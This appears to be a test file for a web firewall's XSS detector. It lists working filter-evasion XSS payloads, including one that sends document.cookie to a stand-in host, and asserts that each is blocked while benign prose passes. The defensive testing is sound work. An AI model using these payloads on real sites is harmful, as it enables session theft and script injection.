// Red-team XSS findings (hunt sqli-xss, section B): payloads a browser runs that the XSS detector let
// through. Each is sent through the whole Engine in a query string, a urlencoded form body and a JSON
// body and must be blocked as XSS; parse5 (the WHATWG HTML parser browsers implement) shows each one
// really yields a handler or a script URL in its page context. Prose that mentions handlers must pass.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'parse5';
import { Engine } from '../../src/engine/engine.js';
import { buildRuleSet } from '../../src/engine/rule-set.js';
import { normalizeAttackSettings } from '../../src/rules/attack-settings.js';

const info = { path: null, format: 'moat' as const, formatVersion: 1, builtAt: null, hash: '' };
const engine = new Engine({ rules: buildRuleSet([], info, undefined, normalizeAttackSettings('block')) });

type Loc = 'query' | 'form' | 'json';
function decide(p: string, loc: Loc): string {
  const ip = '192.0.2.1';
  if (loc === 'query') return engine.evaluate({ ip, method: 'GET', path: '/s', url: '/s?q=' + encodeURIComponent(p), headers: {} }).category;
  if (loc === 'form') {
    const text = 'q=' + encodeURIComponent(p);
    return engine.evaluate({ ip, method: 'POST', path: '/s', url: '/s', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: { kind: 'form', text, bytes: Buffer.from(text, 'latin1') } }).category;
  }
  const text = JSON.stringify({ q: p });
  return engine.evaluate({ ip, method: 'POST', path: '/s', url: '/s', headers: { 'content-type': 'application/json' }, body: { kind: 'json', text } }).category;
}

function blocked(payloads: string[]): void {
  for (const p of payloads) for (const loc of ['query', 'form', 'json'] as const) assert.equal(decide(p, loc), 'attack-xss', `${loc}: ${JSON.stringify(p)}`);
}

function passed(lines: string[]): void {
  for (const p of lines) for (const loc of ['query', 'form', 'json'] as const) assert.equal(decide(p, loc), 'passed', `${loc}: ${JSON.stringify(p)}`);
}

/** Page templates the value is reflected into. */
const page = {
  body: (p: string) => `<!doctype html><body><div>${p}</div><p>after</p>`,
  dq: (p: string) => `<!doctype html><body><input name=q value="${p}"><p>after</p>`,
  sq: (p: string) => `<!doctype html><body><input name=q value='${p}'><p>after</p>`,
  unquoted: (p: string) => `<!doctype html><body><input name=q value=${p}><p>after</p>`,
  href: (p: string) => `<!doctype html><body><a href="${p}">link</a>`,
};

/** What in the parsed page runs script: an on* attribute, or a URL attribute holding a javascript: URL. */
function runs(html: string): string[] {
  const found: string[] = [];
  const walk = (node: any): void => {
    for (const a of node.attrs ?? []) {
      if (/^on[a-z]+$/.test(a.name)) found.push(`${node.tagName} ${a.name}`);
      const url = String(a.value).replace(/^[\x00-\x20]+/, '').replace(/[\t\n\r]/g, '').toLowerCase();
      if (a.name === 'href' && url.startsWith('javascript:')) found.push(`${node.tagName} href`);
    }
    for (const c of node.childNodes ?? []) walk(c);
  };
  walk(parse(html));
  return found;
}

function live(payloads: string[], template: (p: string) => string): void {
  for (const p of payloads) assert.ok(runs(template(p)).length > 0, `parse5 finds nothing that runs in ${JSON.stringify(template(p))}`);
}

// B4: `javascript:` behind a numeric reference with any number of leading zeros, in an href (the link runs it when clicked).
const zeros = ['&#0000000000000000106;avascript:alert(1)', 'javascript&#00000000000000000058;alert(1)', '&#x0000000000000000006A;avascript:alert(1)'];
const zerosInTag = ['<a href="&#0000000000000000106;avascript:alert(1)">x</a>'];
test('B4: a script scheme behind numeric references padded with leading zeros is blocked', () => {
  live(zeros, page.href);
  live(zerosInTag, page.body);
  blocked([...zeros, ...zerosInTag]);
});

// B1: an unquoted attribute value (`<input value=${p}>`) ends at whitespace; autofocus then fires the onfocus handler on load.
const unquoted = ['x autofocus onfocus=alert(1)', 'x\tautofocus\tonfocus=alert(1)', 'x onmouseover=alert(1) y', 'x autofocus onfocus=alert(1)//'];
test('B1: attributes added after an unquoted value are blocked', () => {
  live(unquoted, page.unquoted);
  blocked(unquoted);
});

// B2: a quote closes the attribute, and attributes follow that the reading gave up on: `/` as a separator,
// names of any characters, a handler past the fourth attribute (double-quoted `value="${p}"` unless noted).
const dq = ['"/autofocus/onfocus=alert(1)//', '"autofocus/onfocus=alert(1)//', '"1 autofocus onfocus=alert(1) x="', '"%x autofocus onfocus=alert(1) x="',
  '" a b c d autofocus onfocus=alert(1) x="', '" a:b c.d e f g h autofocus onfocus=alert(1)//'];
const sq = ["'/autofocus/onfocus=alert(1)//", "' a b c d e autofocus onfocus=alert(1) x='"];
test('B2: a quote break-out followed by attributes of any shape and number is blocked', () => {
  live(dq, page.dq);
  live(sq, page.sq);
  blocked([...dq, ...sq]);
});

// B2 in a long value: only the entity-decoded view is read, where `&quot;` opened a quoted value hiding onerror (body context).
const long = ['A'.repeat(1100) + ' <img src=x alt=&quot; a b c d onerror=alert(1)>'];
test('B2: a long value with a handler past four attributes is blocked', () => {
  live(long, page.body);
  blocked(long);
});

// B6: a handler missing from the list of known ones (fires without interaction in Chromium) after a break-out.
const unlisted = ['" style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="alert(1)', '" onbeforematch=alert(1) x="', '" onscrollsnapchange=alert(1) x="'];
test('B6: a break-out adding any on* handler is blocked', () => {
  live(unlisted, page.dq);
  blocked(unlisted);
});

// B3: a real tag in page text hidden behind something the detector read as an attribute value or the end
// of a tag: `<` inside a tag, a backtick (no quote in HTML), a raw-text element or a comment around a "value".
const hidden = ['<img src=x < onerror=alert(1)>', '<img src=x alt=`1 onerror=alert(1)>', '<b title=`><img src=x onerror=alert(1)>',
  '<style><a title="</style><img src=x onerror=alert(1)>">', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><svg onload=alert(1)>">', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">', '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<!--<a title="x--><img src=x onerror=alert(1)>">'];
test('B3: a tag hidden behind a raw-text element, a comment, a backtick or a stray < is blocked', () => {
  live(hidden, page.body);
  blocked(hidden);
});

// B5: a value in a script's string literal (`<script>var q = '${p}';</script>`) closes it, ends the statement and calls.
const jsString = ["';alert(1)//", '";alert(1)//', "';alert(1);'", "x'; top.fetch('//e.example/'+document.cookie) //"];
test('B5: a JavaScript string closed and a call added is blocked', () => {
  for (const p of jsString) {
    const quote = p.includes("';") ? "'" : '"';
    const code = `var q = ${quote}${p}${quote};`;
    assert.doesNotThrow(() => new Function(code), code); // it compiles: the call runs
  }
  blocked(jsString);
  passed(["var s = 'abc'; print(s) // prints abc", "He said 'hi'; then left", "it's; ok() // fine", "console.log('x');alert(1)//", "'use strict'; module.exports = f()", "I paid $5; see receipt('a') //"]);
});

// Prose that mentions handlers, and markup that runs nothing: a quoted handler that could not compile
// (`onload=init()"`), a handler followed by a sentence, a tag inside a quoted value of a tag that is real.
test('prose about handlers and inert markup pass', () => {
  passed([
    `Why doesn't "onload=init()" fire?`, 'Use "onclick=save()" on the button', "Set 'onclick=save()' on it", 'Use onclick=save() on the button',
    'Is onload=init() called twice?', "It's easy: add onclick=save() to the button", 'add onclick="save()" to the button',
    "it's simple, really: just add onclick=\"save()\" to the button", 'call it with onClick={() => save()} in JSX',
    'The "online=true" flag', "the 'onset=5' parameter", '<img src="a.png" alt="a <b> tag">', '<a title="use <b>">x</a>',
    '<textarea>notes</textarea> "quoted" <b>bold</b>', 'I <3 you and 1 < 2', '`code` and `more code`', 'price&#0000000000000000036;5',
    '&#00000000000000000000;', '<p class="note">Hi</p> and <em>more</em>',
  ]);
});
